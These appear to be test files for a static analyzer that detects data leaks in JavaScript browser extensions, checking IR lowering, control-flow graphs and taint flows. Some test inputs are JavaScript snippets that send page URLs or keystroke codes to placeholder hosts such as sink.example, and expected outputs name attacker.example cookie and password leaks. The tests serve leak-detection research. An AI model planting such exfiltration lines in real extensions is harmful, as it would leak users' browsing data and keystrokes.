        ),
    )


def statements(depth: int = 2):
    """Random statement trees up to the given depth."""
    expr = expressions(2)
    simple = st.one_of(
        st.builds(ast.ExpressionStatement, expr),
        st.builds(
            ast.VariableDeclaration,
            st.lists(
                st.builds(ast.VariableDeclarator, _names, st.one_of(st.none(), expr)),
                min_size=1,
                max_size=2,
            ),
        ),
        st.builds(ast.EmptyStatement),
    )
    if depth <= 0:
        return simple
    sub = statements(depth - 1)
    block = st.builds(ast.BlockStatement, st.lists(sub, max_size=3))
    return st.one_of(
        simple,
        block,
        st.builds(ast.IfStatement, expr, sub, st.one_of(st.none(), sub)),
        st.builds(ast.WhileStatement, expr, block),
        st.builds(
            ast.ForStatement,
            st.one_of(st.none(), expr),
            st.one_of(st.none(), expr),
            st.one_of(st.none(), expr),
            block,
        ),
        st.builds(ast.ForInStatement, _names, st.booleans(),
                  st.builds(ast.Identifier, _names), block),
        st.builds(
            ast.TryStatement,
            block,
            st.builds(ast.CatchClause, _names, block),
            st.none(),
        ),
        st.builds(ast.ThrowStatement, expr),
        st.builds(
            ast.FunctionDeclaration,
            st.sampled_from(["f", "g", "helper"]),
            st.lists(_names, max_size=2, unique=True),
            st.builds(
                ast.BlockStatement,
                st.lists(
                    st.one_of(
                        st.builds(ast.ExpressionStatement, expr),
                        st.builds(ast.ReturnStatement, st.one_of(st.none(), expr)),
                    ),
                    max_size=3,
                ),
            ),
        ),
    )


def programs(max_statements: int = 6):
    """Random whole programs."""
    return st.builds(
        ast.Program, st.lists(statements(2), min_size=1, max_size=max_statements)
    )
