"""The timing-protocol statistics: warm-up discard, medians, and the
kept-sample count.

The regression pinned here: ``runs=2`` with the warm-up discard leaves
a single sample, which used to be reported as a "median" with nothing
saying so — now every median travels with how many samples it
summarizes, and an empty sample list is a loud error instead of a
silent invention.
"""

import pytest

from repro.perf import PhaseTimes, kept_samples, median_report, median_times


def sample(value: float) -> PhaseTimes:
    return PhaseTimes(p1=value, p2=value * 2, p3=value * 3)


class TestKeptSamples:
    def test_discard_drops_exactly_the_first(self):
        samples = [sample(9.0), sample(1.0), sample(2.0)]
        assert kept_samples(samples) == [sample(1.0), sample(2.0)]

    def test_single_sample_is_never_discarded_away(self):
        assert kept_samples([sample(1.0)]) == [sample(1.0)]

    def test_no_discard_keeps_everything(self):
        samples = [sample(9.0), sample(1.0)]
        assert kept_samples(samples, discard_first=False) == samples


class TestMedianReport:
    def test_median_over_kept_samples(self):
        samples = [sample(9.0), sample(1.0), sample(2.0), sample(3.0)]
        times, kept = median_report(samples)
        assert kept == 3
        assert times.p1 == 2.0  # median of 1, 2, 3 — the warm-up 9 is gone

    def test_runs_2_reports_single_kept_sample(self):
        # The paper's protocol with runs=2: discard the first, "median"
        # the one remaining sample. The count says exactly that.
        times, kept = median_report([sample(9.0), sample(4.0)])
        assert kept == 1
        assert times.p1 == 4.0

    def test_runs_1_keeps_its_only_sample(self):
        times, kept = median_report([sample(5.0)])
        assert kept == 1
        assert times.p1 == 5.0

    def test_empty_samples_raise_instead_of_inventing(self):
        with pytest.raises(ValueError, match="no timing samples"):
            median_report([])

    def test_median_times_agrees_with_median_report(self):
        samples = [sample(9.0), sample(1.0), sample(2.0), sample(3.0)]
        assert median_times(samples) == median_report(samples)[0]

    def test_median_times_raises_on_empty_too(self):
        with pytest.raises(ValueError):
            median_times([])
