"""Semantic end-to-end tests of trickier lowering shapes: each runs the
abstract interpreter over the lowered IR and checks the *meaning* is
preserved (not just the CFG shape)."""

import pytest

from repro.analysis import analyze
from repro.domains import prefix as p
from repro.ir import lower
from repro.ir.nodes import GLOBAL_SCOPE, Var
from repro.js import parse


def value_of(source, name="witness"):
    program = lower(parse(source), event_loop=False)
    result = analyze(program)
    return result.atom_value_joined(
        program.main.exit.sid, Var(name, GLOBAL_SCOPE)
    )


class TestSwitchSemantics:
    def test_matching_case_executes(self):
        value = value_of(
            """
            var witness = "none";
            switch (1) {
                case 1: witness = "one"; break;
                case 2: witness = "two"; break;
            }
            """
        )
        assert value.string.admits("one")

    def test_fallthrough_between_cases(self):
        value = value_of(
            """
            var witness = "";
            switch (unknownValue()) {
                case 1: witness = witness + "a";
                case 2: witness = witness + "b"; break;
                case 3: witness = witness + "c";
            }
            """
        )
        # Case 1 falls through to case 2: "ab" must be admitted.
        assert value.string.admits("ab")

    def test_default_clause_executes(self):
        value = value_of(
            """
            var witness = "none";
            switch (unknownValue()) {
                case 1: break;
                default: witness = "default";
            }
            """
        )
        assert value.string.admits("default")

    def test_break_leaves_switch(self):
        value = value_of(
            """
            var witness = "start";
            switch (unknownValue()) {
                case 1: witness = "one"; break;
                case 2: witness = "two"; break;
            }
            witness = witness + "!";
            """
        )
        assert value.string.admits("one!")
        assert value.string.admits("two!")


class TestLoopSemantics:
    def test_do_while_body_runs_at_least_once(self):
        value = value_of(
            """
            var witness = "no";
            do { witness = "ran"; } while (false);
            """
        )
        assert value.string.concrete() == "ran"

    def test_do_while_continue_reaches_condition(self):
        value = value_of(
            """
            var witness = "a";
            do {
                if (Math.random()) { witness = "b"; continue; }
                witness = "c";
            } while (Math.random());
            """
        )
        assert value.string.admits("b") and value.string.admits("c")

    def test_labeled_continue_targets_outer_loop(self):
        value = value_of(
            """
            var witness = "none";
            outer: while (Math.random()) {
                while (Math.random()) {
                    if (Math.random()) { continue outer; }
                    witness = "inner-tail";
                }
                witness = "outer-tail";
            }
            """
        )
        assert value.string.admits("outer-tail")
        assert value.string.admits("inner-tail")

    def test_for_in_body_may_not_run(self):
        value = value_of(
            """
            var witness = "before";
            for (var k in {}) { witness = "looped"; }
            """
        )
        assert value.string.admits("before")


class TestExpressionSemantics:
    def test_sequence_expression_value_is_last(self):
        value = value_of("var witness = (1, 'two', 3);")
        assert value.number.concrete() == 3.0

    def test_ternary_joins_both_arms(self):
        value = value_of("var witness = Math.random() ? 'yes' : 'no';")
        assert value.string.admits("yes") and value.string.admits("no")

    def test_ternary_definite_condition_picks_arm(self):
        value = value_of("var witness = true ? 'yes' : 'no';")
        assert value.string.concrete() == "yes"

    def test_logical_and_returns_left_when_falsy(self):
        value = value_of("var witness = 0 && 'right';")
        assert value.number.concrete() == 0.0

    def test_logical_or_returns_left_when_truthy(self):
        value = value_of("var witness = 'left' || 'right';")
        assert value.string.concrete() == "left"

    def test_compound_member_assignment(self):
        value = value_of(
            "var o = { n: 'base' }; o.n += '+more'; var witness = o.n;"
        )
        assert value.string.concrete() == "base+more"

    def test_chained_assignment_value(self):
        value = value_of("var a; var b; var witness = (a = (b = 'v'));")
        assert value.string.concrete() == "v"

    def test_delete_removes_property(self):
        value = value_of(
            "var o = { p: 'v' }; delete o.p; var witness = o.p;"
        )
        assert value.may_undef

    def test_update_in_expression_position(self):
        value = value_of("var i = 5; var witness = i++ + 10;")
        assert value.number.concrete() == 15.0

    def test_prefix_update_in_expression_position(self):
        value = value_of("var i = 5; var witness = ++i + 10;")
        assert value.number.concrete() == 16.0


class TestScopingSemantics:
    def test_hoisted_var_is_undefined_before_assignment(self):
        value = value_of(
            "var witness = later; var later = 'assigned';"
        )
        assert value.may_undef

    def test_catch_param_shadows_outer(self):
        value = value_of(
            """
            var e = "outer";
            var witness;
            try { throw "thrown"; } catch (e) { witness = e; }
            """
        )
        assert value.string.concrete() == "thrown"

    def test_outer_variable_intact_after_catch(self):
        value = value_of(
            """
            var e = "outer";
            try { throw "thrown"; } catch (e) {}
            var witness = e;
            """
        )
        assert value.string.concrete() == "outer"

    def test_named_function_expression_self_reference(self):
        value = value_of(
            """
            var witness = (function fact(n) {
                if (n < 2) { return 1; }
                return n * fact(n - 1);
            })(3);
            """
        )
        assert not value.is_bottom
