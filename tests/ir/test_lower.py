"""Unit tests for AST -> IR lowering."""

from repro.ir import (
    GLOBAL_SCOPE,
    AllocStmt,
    AssignStmt,
    BranchStmt,
    CallStmt,
    CatchStmt,
    ClosureStmt,
    Const,
    ConstructStmt,
    DeletePropStmt,
    EdgeKind,
    EventLoopStmt,
    ForInNextStmt,
    LoadPropStmt,
    ReturnStmt,
    StorePropStmt,
    ThrowStmt,
    Var,
    lower,
)
from repro.js import parse


def lower_src(source, event_loop=False):
    return lower(parse(source), event_loop=event_loop)


def stmts_of_type(program, stmt_type, fid=None):
    out = []
    for sid in sorted(program.stmts):
        if fid is not None and program.owner[sid] != fid:
            continue
        if isinstance(program.stmts[sid], stmt_type):
            out.append(program.stmts[sid])
    return out


class TestScoping:
    def test_top_level_var_is_global(self):
        program = lower_src("var x = 1;")
        assign = stmts_of_type(program, AssignStmt)[0]
        assert assign.target == Var("x", GLOBAL_SCOPE)

    def test_function_local_var(self):
        program = lower_src("function f() { var x = 1; }")
        assigns = [
            s for s in stmts_of_type(program, AssignStmt)
            if isinstance(s.target, Var) and s.target.name == "x"
        ]
        assert assigns[0].target.scope == 1  # function f has fid 1

    def test_closure_captures_outer_local(self):
        program = lower_src(
            "function outer() { var x = 1; function inner() { return x; } }"
        )
        returns = stmts_of_type(program, ReturnStmt)
        captured = [
            r.value for r in returns
            if isinstance(r.value, Var) and r.value.name == "x"
        ]
        assert captured and captured[0].scope == 1  # declared in outer

    def test_undeclared_name_is_global(self):
        program = lower_src("f(y);")
        call = stmts_of_type(program, CallStmt)[0]
        assert call.args[0] == Var("y", GLOBAL_SCOPE)

    def test_parameter_resolves_to_function_scope(self):
        program = lower_src("function f(a) { return a; }")
        ret = stmts_of_type(program, ReturnStmt)[0]
        assert ret.value == Var("a", 1)

    def test_catch_parameter_renamed(self):
        program = lower_src("var e = 1; try { f(); } catch (e) { g(e); }")
        catch = stmts_of_type(program, CatchStmt)[0]
        assert catch.target.name.startswith("e#catch")
        calls = stmts_of_type(program, CallStmt)
        g_call = [c for c in calls if getattr(c.callee, "name", "") == "g"][0]
        assert g_call.args[0] == catch.target

    def test_hoisted_function_usable_before_definition(self):
        program = lower_src("f(); function f() {}")
        main = program.main
        closure_index = next(
            i for i, s in enumerate(main.statements) if isinstance(s, ClosureStmt)
        )
        call_index = next(
            i for i, s in enumerate(main.statements) if isinstance(s, CallStmt)
        )
        assert closure_index < call_index

    def test_named_function_expression_binds_own_name(self):
        program = lower_src("var f = function fact(n) { return fact; };")
        inner = program.functions[1]
        assert "fact" in inner.locals
        ret = stmts_of_type(program, ReturnStmt, fid=1)[0]
        assert ret.value == Var("fact", 1)


class TestExpressions:
    def test_member_read_becomes_loadprop(self):
        program = lower_src("var x = a.b;")
        load = stmts_of_type(program, LoadPropStmt)[0]
        assert load.prop == Const("b")

    def test_member_write_becomes_storeprop(self):
        program = lower_src("a.b = 1;")
        store = stmts_of_type(program, StorePropStmt)[0]
        assert store.prop == Const("b")
        assert store.value == Const(1.0)

    def test_computed_access_keeps_expression_prop(self):
        program = lower_src("var x = a[k];")
        load = stmts_of_type(program, LoadPropStmt)[0]
        assert load.prop == Var("k", GLOBAL_SCOPE)

    def test_object_literal_allocates_and_stores(self):
        program = lower_src("var o = { url: u };")
        allocs = stmts_of_type(program, AllocStmt)
        stores = stmts_of_type(program, StorePropStmt)
        assert allocs[0].kind == "object"
        assert stores[0].prop == Const("url")

    def test_array_literal_stores_indices_and_length(self):
        program = lower_src("var a = ['x', 'y'];")
        stores = stmts_of_type(program, StorePropStmt)
        props = [s.prop for s in stores]
        assert Const("0") in props and Const("1") in props and Const("length") in props

    def test_method_call_lowered_with_this(self):
        program = lower_src("obj.send(x);")
        call = stmts_of_type(program, CallStmt)[0]
        assert call.this == Var("obj", GLOBAL_SCOPE)

    def test_plain_call_has_no_this(self):
        program = lower_src("send(x);")
        call = stmts_of_type(program, CallStmt)[0]
        assert call.this is None

    def test_new_expression(self):
        program = lower_src("var r = new XMLHttpRequest();")
        construct = stmts_of_type(program, ConstructStmt)[0]
        assert construct.callee == Var("XMLHttpRequest", GLOBAL_SCOPE)

    def test_compound_assignment_reads_then_writes(self):
        program = lower_src("x += 'suffix';")
        assigns = stmts_of_type(program, AssignStmt)
        # read copy, binop, write back
        assert len(assigns) == 3

    def test_delete_member(self):
        program = lower_src("delete a.b;")
        assert stmts_of_type(program, DeletePropStmt)

    def test_logical_and_introduces_branch(self):
        program = lower_src("var x = a && b;")
        assert stmts_of_type(program, BranchStmt)

    def test_ternary_introduces_branch(self):
        program = lower_src("var x = c ? a : b;")
        assert stmts_of_type(program, BranchStmt)

    def test_update_expression_postfix_value(self):
        program = lower_src("var x = i++;")
        # old value copied, incremented, written back, old assigned to x
        assigns = stmts_of_type(program, AssignStmt)
        x_assign = [
            a for a in assigns
            if isinstance(a.target, Var) and a.target.name == "x"
        ]
        assert x_assign


class TestControlFlowEdges:
    def test_if_branch_has_two_seq_successors(self):
        program = lower_src("if (c) f(); else g();")
        branch = stmts_of_type(program, BranchStmt)[0]
        seq = [e for e in branch.edges if e.kind is EdgeKind.SEQ]
        assert len(seq) == 2

    def test_while_has_back_edge(self):
        program = lower_src("while (c) { f(); }")
        branch = stmts_of_type(program, BranchStmt)[0]
        call = stmts_of_type(program, CallStmt)[0]
        header_sid = branch.sid - 2  # nop, cond-temp is inline: find nop
        # The call's SEQ successor chain must eventually return to a
        # statement before the branch (the loop header).
        assert any(e.target < branch.sid for e in call.edges)

    def test_break_has_jump_and_fallthrough(self):
        program = lower_src("while (c) { break; }")
        breaks = [
            s for s in program.main.statements
            if getattr(s, "label", "") == "break"
        ]
        kinds = {e.kind for e in breaks[0].edges}
        assert EdgeKind.JUMP in kinds and EdgeKind.FALLTHROUGH in kinds

    def test_return_jump_edge_to_exit(self):
        program = lower_src("function f() { return 1; }")
        ret = stmts_of_type(program, ReturnStmt)[0]
        exit_sid = program.functions[1].exit.sid
        assert any(
            e.kind is EdgeKind.JUMP and e.target == exit_sid for e in ret.edges
        )

    def test_throw_with_handler_jumps_to_catch(self):
        program = lower_src("try { throw 'x'; } catch (e) {}")
        throw = stmts_of_type(program, ThrowStmt)[0]
        catch = stmts_of_type(program, CatchStmt)[0]
        assert any(
            e.kind is EdgeKind.JUMP and e.target == catch.sid for e in throw.edges
        )

    def test_uncaught_throw_has_no_jump_edge(self):
        program = lower_src("throw 'x';")
        throw = stmts_of_type(program, ThrowStmt)[0]
        assert not any(e.kind is EdgeKind.JUMP for e in throw.edges)

    def test_implicit_exception_edge_inside_try(self):
        program = lower_src("try { obj.prop = 1; } catch (e) {}")
        store = stmts_of_type(program, StorePropStmt)[0]
        assert any(e.kind is EdgeKind.IMPLICIT for e in store.edges)

    def test_no_implicit_edge_outside_try(self):
        program = lower_src("obj.prop = 1;")
        store = stmts_of_type(program, StorePropStmt)[0]
        assert not any(e.kind is EdgeKind.IMPLICIT for e in store.edges)

    def test_nested_try_targets_innermost_handler(self):
        program = lower_src(
            "try { try { f(); } catch (a) {} } catch (b) {}"
        )
        call = stmts_of_type(program, CallStmt)[0]
        catches = stmts_of_type(program, CatchStmt)
        inner = [c for c in catches if c.target.name.startswith("a#")][0]
        implicit = [e for e in call.edges if e.kind is EdgeKind.IMPLICIT]
        assert implicit[0].target == inner.sid

    def test_for_in_driver_has_body_and_exit_successors(self):
        program = lower_src("for (var k in o) { f(k); }")
        driver = stmts_of_type(program, ForInNextStmt)[0]
        seq = [e for e in driver.edges if e.kind is EdgeKind.SEQ]
        assert len(seq) == 2

    def test_switch_cases_chain(self):
        program = lower_src(
            "switch (x) { case 1: a(); break; case 2: b(); default: c(); }"
        )
        calls = stmts_of_type(program, CallStmt)
        assert len(calls) == 3

    def test_event_loop_appended_with_self_edge(self):
        program = lower_src("var x = 1;", event_loop=True)
        loop = stmts_of_type(program, EventLoopStmt)[0]
        assert any(e.target == loop.sid for e in loop.edges)

    def test_no_event_loop_by_default_in_tests(self):
        program = lower_src("var x = 1;")
        assert not stmts_of_type(program, EventLoopStmt)

    def test_labeled_break_exits_outer_loop(self):
        program = lower_src(
            "outer: while (a) { while (b) { break outer; } }"
        )
        breaks = [
            s for s in program.main.statements
            if getattr(s, "label", "") == "break"
        ]
        jump = [e for e in breaks[0].edges if e.kind is EdgeKind.JUMP][0]
        # The jump target must be after both loop exits (the outer exit nop
        # is emitted last).
        exit_nops = [
            s.sid for s in program.main.statements
            if getattr(s, "label", "") == "loop-exit"
        ]
        assert jump.target == max(exit_nops)


class TestStatementMetadata:
    def test_positions_preserved(self):
        program = lower_src("var x = 1;\nvar y = 2;")
        lines = {
            s.line
            for s in stmts_of_type(program, AssignStmt)
        }
        assert lines == {1, 2}

    def test_every_statement_registered(self):
        program = lower_src("function f() { return 1; } f();")
        for function in program.functions.values():
            for stmt in function.statements:
                assert program.stmts[stmt.sid] is stmt
                assert program.owner[stmt.sid] == function.fid

    def test_pretty_dump_runs(self):
        program = lower_src("if (a) { f(); } else { g(); }")
        text = program.pretty()
        assert "branch" in text and "entry" in text
