"""Unit tests for CFG views and graph utilities."""

from repro.ir import (
    BranchStmt,
    CatchStmt,
    Mode,
    StorePropStmt,
    ThrowStmt,
    build_function_cfg,
    lower,
    nodes_in_cycles,
    strongly_connected_components,
)
from repro.js import parse


def main_cfg(source, mode, throwing=None):
    program = lower(parse(source), event_loop=False)
    return program, build_function_cfg(program.main, mode, throwing)


def find(program, stmt_type):
    for sid in sorted(program.stmts):
        if isinstance(program.stmts[sid], stmt_type):
            return program.stmts[sid]
    raise AssertionError(f"no {stmt_type.__name__}")


class TestModes:
    SOURCE = "try { if (c) throw 'x'; f(); } catch (e) { g(e); }"

    def test_structured_view_throw_falls_through(self):
        program, cfg = main_cfg(self.SOURCE, Mode.STRUCTURED)
        throw = find(program, ThrowStmt)
        catch = find(program, CatchStmt)
        assert catch.sid not in cfg.successors(throw.sid)
        assert cfg.successors(throw.sid)  # falls through to f()

    def test_no_implicit_view_throw_jumps_to_catch(self):
        program, cfg = main_cfg(self.SOURCE, Mode.NO_IMPLICIT)
        throw = find(program, ThrowStmt)
        catch = find(program, CatchStmt)
        assert cfg.successors(throw.sid) == [catch.sid]

    def test_full_view_includes_implicit_edges(self):
        source = "try { obj.p = 1; } catch (e) {}"
        program, cfg = main_cfg(source, Mode.FULL)
        store = find(program, StorePropStmt)
        catch = find(program, CatchStmt)
        assert catch.sid in cfg.successors(store.sid)

    def test_no_implicit_view_excludes_implicit_edges(self):
        source = "try { obj.p = 1; } catch (e) {}"
        program, cfg = main_cfg(source, Mode.NO_IMPLICIT)
        store = find(program, StorePropStmt)
        catch = find(program, CatchStmt)
        assert catch.sid not in cfg.successors(store.sid)

    def test_full_view_filters_by_throwing_set(self):
        source = "try { obj.p = 1; } catch (e) {}"
        program, cfg = main_cfg(source, Mode.FULL, throwing=frozenset())
        store = find(program, StorePropStmt)
        catch = find(program, CatchStmt)
        assert catch.sid not in cfg.successors(store.sid)

    def test_predecessors_are_inverse_of_successors(self):
        program, cfg = main_cfg("if (a) f(); else g();", Mode.FULL)
        for sid in cfg.nodes:
            for succ in cfg.successors(sid):
                assert sid in cfg.predecessors(succ)

    def test_reachability(self):
        program, cfg = main_cfg("f(); g();", Mode.FULL)
        reachable = cfg.reachable_from_entry()
        assert cfg.exit in reachable


class TestGraphUtilities:
    def test_scc_of_a_dag_is_singletons(self):
        nodes = [1, 2, 3]
        successors = {1: [2], 2: [3], 3: []}
        components = strongly_connected_components(nodes, successors)
        assert sorted(len(c) for c in components) == [1, 1, 1]

    def test_scc_finds_cycle(self):
        nodes = [1, 2, 3, 4]
        successors = {1: [2], 2: [3], 3: [1], 4: []}
        components = strongly_connected_components(nodes, successors)
        sizes = sorted(len(c) for c in components)
        assert sizes == [1, 3]

    def test_nodes_in_cycles_includes_self_loop(self):
        nodes = [1, 2]
        successors = {1: [1, 2], 2: []}
        assert nodes_in_cycles(nodes, successors) == {1}

    def test_loop_statements_are_cyclic(self):
        program, cfg = main_cfg("while (c) { f(); }", Mode.FULL)
        cyclic = nodes_in_cycles(cfg.nodes, cfg.succs)
        branch = find(program, BranchStmt)
        assert branch.sid in cyclic

    def test_straight_line_has_no_cycles(self):
        program, cfg = main_cfg("f(); g();", Mode.FULL)
        assert nodes_in_cycles(cfg.nodes, cfg.succs) == set()

    def test_scc_reverse_topological_order(self):
        nodes = [1, 2, 3]
        successors = {1: [2], 2: [3], 3: []}
        components = strongly_connected_components(nodes, successors)
        # 3 has no successors, so its SCC comes first.
        assert components[0] == [3]

    def test_deep_graph_does_not_recurse(self):
        # Tarjan must be iterative: a 10000-node chain would blow the
        # Python recursion limit otherwise.
        nodes = list(range(10_000))
        successors = {i: [i + 1] for i in range(9_999)}
        successors[9_999] = []
        components = strongly_connected_components(nodes, successors)
        assert len(components) == 10_000
