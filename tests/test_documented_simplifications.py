"""Executable documentation of the deliberate semantic simplifications.

DESIGN.md lists where this reproduction simplifies full ES5/browser
semantics (as the paper's own implementation also did — e.g. it omits
uncaught-exception edges and does not model timing channels). These
tests pin each simplification's *observable* behavior, so a future
change that accidentally alters one fails loudly here rather than
silently shifting analysis results.
"""

import pytest

from repro.api import infer_signature, vet
from repro.analysis import analyze
from repro.domains import prefix as p
from repro.ir import lower
from repro.ir.nodes import GLOBAL_SCOPE, Var
from repro.js import parse


def value_of(source, name="witness", event_loop=False):
    program = lower(parse(source), event_loop=event_loop)
    result = analyze(program)
    return result.atom_value_joined(
        program.main.exit.sid, Var(name, GLOBAL_SCOPE)
    )


class TestFinallySimplification:
    """`finally` runs on the normal path; the exceptional-path copy is
    approximated (exceptions propagate to the outer handler directly)."""

    def test_finally_runs_on_normal_path(self):
        value = value_of(
            """
            var witness = "no";
            try { var x = 1; } finally { witness = "ran"; }
            """
        )
        assert value.string.admits("ran")

    def test_catch_then_finally_normal_order(self):
        value = value_of(
            """
            var witness = "";
            try { throw "x"; } catch (e) { witness = witness + "c"; }
            finally { witness = witness + "f"; }
            """
        )
        assert value.string.admits("cf")


class TestUncaughtExceptionSimplification:
    """Uncaught exceptions are termination (the paper's Section 3.3
    choice): no control edges, no flows through them."""

    def test_code_after_conditional_uncaught_throw_not_dependent(self):
        signature = infer_signature(
            """
            if (content.location.href == "x.example") {
                throw "die";
            }
            var req = new XMLHttpRequest();
            req.open("GET", "https://sink.example/ping", true);
            req.send(null);
            """
        )
        # The only path from the url check to the send is via the omitted
        # uncaught-throw edge, so NO url flow is reported (termination
        # channels are out of scope, as in the paper).
        assert not any(e.source == "url" for e in signature.flows)


class TestEventObjectSimplification:
    """One shared abstract event object serves every handler: a load
    handler reading keyCode is (soundly, imprecisely) a key source."""

    def test_load_handler_reading_keycode_counts_as_key_source(self):
        signature = infer_signature(
            """
            window.addEventListener("load", function (e) {
                var req = new XMLHttpRequest();
                req.open("GET", "https://sink.example/?k=" + e.keyCode, true);
                req.send(null);
            }, false);
            """
        )
        assert any(e.source == "key" for e in signature.flows)


class TestForInSimplification:
    """for-in binds an unknown string, not the precise key set."""

    def test_forin_variable_is_any_string(self):
        value = value_of(
            "var o = {only: 1}; var witness; for (witness in o) {}"
        )
        assert value.string.is_top or value.may_undef


class TestArgumentsObjectUnsupported:
    """The `arguments` object is not modeled: it reads as undefined (the
    analysis stays sound for flows *into* declared parameters)."""

    def test_arguments_reads_do_not_crash(self):
        value = value_of(
            """
            var witness;
            function f(a) { witness = arguments; return a; }
            f("x");
            """
        )
        assert value.may_undef

    def test_declared_params_still_flow(self):
        signature = infer_signature(
            """
            function leak(u) {
                var req = new XMLHttpRequest();
                req.open("GET", "https://sink.example/?u=" + u, true);
                req.send(null);
            }
            leak(content.location.href);
            """
        )
        assert any(e.source == "url" for e in signature.flows)


class TestDoubleEvaluationSimplification:
    """Compound member assignment evaluates the base expression twice in
    the IR (per DESIGN.md); for effect-free bases this is invisible."""

    def test_compound_member_assignment_result(self):
        value = value_of(
            "var o = {n: 1}; o.n += 2; var witness = o.n;"
        )
        assert value.number.concrete() == 3.0
