"""Tests for the browser environment model."""

import pytest

from repro.analysis import analyze
from repro.browser import BrowserEnvironment, mozilla_spec, stubs
from repro.domains import prefix as p
from repro.ir import lower
from repro.ir.nodes import GLOBAL_SCOPE, Var
from repro.js import parse


def run(source, event_loop=True):
    program = lower(parse(source), event_loop=event_loop)
    return program, analyze(program, BrowserEnvironment())


def global_value(program, result, name):
    return result.atom_value_joined(program.main.exit.sid, Var(name, GLOBAL_SCOPE))


class TestObjectGraph:
    def test_window_bound_globally(self):
        program, result = run("var w = window;")
        assert stubs.WINDOW in global_value(program, result, "w").addresses

    def test_content_location_href_is_string(self):
        program, result = run("var u = content.location.href;")
        value = global_value(program, result, "u")
        assert value.string.is_top

    def test_window_content_is_content_window(self):
        program, result = run("var c = window.content;")
        assert stubs.CONTENT_WINDOW in global_value(program, result, "c").addresses

    def test_gbrowser_current_uri_spec(self):
        program, result = run("var s = gBrowser.currentURI.spec;")
        assert global_value(program, result, "s").string.is_top

    def test_document_get_element_by_id_may_be_null(self):
        program, result = run("var el = document.getElementById('x');")
        value = global_value(program, result, "el")
        assert value.may_null and stubs.ELEMENT in value.addresses

    def test_services_scriptloader_reachable(self):
        program, result = run("var sl = Services.scriptloader;")
        assert stubs.SCRIPTLOADER in global_value(program, result, "sl").addresses

    def test_global_this_is_window(self):
        program, result = run("var t = this;")
        assert stubs.WINDOW in global_value(program, result, "t").addresses


class TestXHRModel:
    def test_constructor_returns_request_object(self):
        program, result = run("var r = new XMLHttpRequest();")
        value = global_value(program, result, "r")
        assert value.addresses

    def test_open_records_url(self):
        program, result = run(
            """
            var r = new XMLHttpRequest();
            r.open("GET", "https://host.example/x", true);
            var snapshot = r;
            """
        )
        value = global_value(program, result, "snapshot")
        state = result.in_state(program.main.exit.sid, ())
        url = state.heap.read(value.addresses, p.exact("%url"))
        assert url.string.concrete() == "https://host.example/x"

    def test_response_text_is_unknown_string(self):
        program, result = run(
            "var r = new XMLHttpRequest(); var t = r.responseText;"
        )
        assert global_value(program, result, "t").string.is_top

    def test_onreadystatechange_handler_runs(self):
        # The completion handler registered on the request must be
        # analyzed (it runs from the event loop).
        program, result = run(
            """
            var witness = "no";
            var r = new XMLHttpRequest();
            r.open("GET", "https://host.example/x", true);
            r.onreadystatechange = function () { witness = "ran"; };
            r.send(null);
            """
        )
        value = global_value(program, result, "witness")
        assert value.string.admits("ran")


class TestEventLoop:
    def test_registered_handler_executes(self):
        program, result = run(
            """
            var witness = "no";
            window.addEventListener("load", function (e) { witness = "ran"; }, false);
            """
        )
        assert global_value(program, result, "witness").string.admits("ran")

    def test_unregistered_function_does_not_execute(self):
        program, result = run(
            """
            var witness = "no";
            function never(e) { witness = "ran"; }
            """
        )
        assert global_value(program, result, "witness").string.concrete() == "no"

    def test_settimeout_callback_executes(self):
        program, result = run(
            """
            var witness = "no";
            setTimeout(function () { witness = "ran"; }, 1000);
            """
        )
        assert global_value(program, result, "witness").string.admits("ran")

    def test_handler_event_object_has_key_fields(self):
        program, result = run(
            """
            var code;
            window.addEventListener("keypress", function (e) { code = e.keyCode; }, false);
            """
        )
        value = global_value(program, result, "code")
        assert value.number.is_top

    def test_handler_registered_inside_handler(self):
        program, result = run(
            """
            var witness = "no";
            window.addEventListener("load", function (e) {
                window.addEventListener("unload", function (e2) { witness = "ran"; }, false);
            }, false);
            """
        )
        assert global_value(program, result, "witness").string.admits("ran")

    def test_no_event_loop_no_handler_execution(self):
        program, result = run(
            """
            var witness = "no";
            window.addEventListener("load", function (e) { witness = "ran"; }, false);
            """,
            event_loop=False,
        )
        assert global_value(program, result, "witness").string.concrete() == "no"


class TestMozillaSpec:
    def test_spec_has_expected_sources(self):
        spec = mozilla_spec()
        assert set(spec.source_names()) >= {
            "url", "key", "geoloc", "cookie", "password", "clipboard"
        }

    def test_spec_has_send_and_redirect_sinks(self):
        spec = mozilla_spec()
        assert [sink.name for sink in spec.sinks] == ["send", "redirect"]

    def test_spec_api_sinks(self):
        spec = mozilla_spec()
        names = {api.name for api in spec.apis}
        assert "scriptloader" in names and "eval" in names


class TestDiagnostics:
    def test_string_timer_flagged_as_dynamic_code(self):
        program, result = run('setTimeout("evilCode()", 100);')
        assert any(tag == "dynamic-code:string-timer" for tag, _ in result.diagnostics)

    def test_function_timer_not_flagged(self):
        program, result = run("setTimeout(function () {}, 100);")
        assert not result.diagnostics

    def test_diagnostic_rendered_in_report(self):
        from repro.api import vet

        report = vet('setTimeout("evilCode()", 100);')
        assert "dynamic-code:string-timer" in report.render()
