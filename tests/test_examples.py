"""Smoke tests: every shipped example runs and says what it promises."""

import importlib.util
import pathlib
import sys

import pytest

EXAMPLES = pathlib.Path(__file__).resolve().parent.parent / "examples"


def run_example(name, capsys):
    spec = importlib.util.spec_from_file_location(f"example_{name}", EXAMPLES / name)
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    module.main()
    return capsys.readouterr().out


class TestExamples:
    def test_quickstart(self, capsys):
        output = run_example("quickstart.py", capsys)
        assert "url -type1-> send(https://rank.example/api?u=...)" in output
        assert "telemetry.shady.example" in output

    def test_vetting_workflow(self, capsys):
        output = run_example("vetting_workflow.py", capsys)
        assert "Verdict: leak" in output
        assert "keys.collector.example" in output

    def test_custom_policy(self, capsys):
        output = run_example("custom_policy.py", capsys)
        assert "prefs -type1->" in output
        assert "url -type3->" in output

    def test_malware_gallery(self, capsys):
        output = run_example("malware_gallery.py", capsys)
        assert "password -type2->" in output
        assert "scriptloader" in output
        assert "url -type3-> send(https://ping.attacker.example/tick)" in output

    def test_malware_gallery_redirect_channel(self, capsys):
        output = run_example("malware_gallery.py", capsys)
        assert "cookie -type1-> redirect(https://jar.attacker.example/c?d=...)" in output
