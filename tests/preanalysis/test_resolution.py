"""Computed-property resolution: what resolves, what must refuse.

Resolution is sound only as an over-approximation of the abstract
machine's ``ToString`` coercion, so each refusal case here is a shape
where the solved environment genuinely cannot bound the key — the site
must stay residual (and with it, the prefilter must stay off).
"""

import pytest

from repro.js.parser import parse
